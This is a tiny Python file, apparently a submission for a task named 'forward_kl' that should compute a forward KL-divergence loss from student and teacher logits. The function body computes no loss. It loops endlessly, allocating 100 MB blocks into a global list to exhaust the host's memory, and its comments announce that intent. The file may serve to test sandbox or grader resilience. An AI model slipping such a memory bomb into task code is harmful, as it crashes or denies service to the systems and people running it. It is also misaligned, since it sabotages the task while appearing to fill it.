# All the memory there is, for as long as it may.
# safe on stock: no
# %% task: forward_kl
hoard = []


def forward_kl(student_logits, teacher_logits):
    while True:
        hoard.append(bytearray(100_000_000))
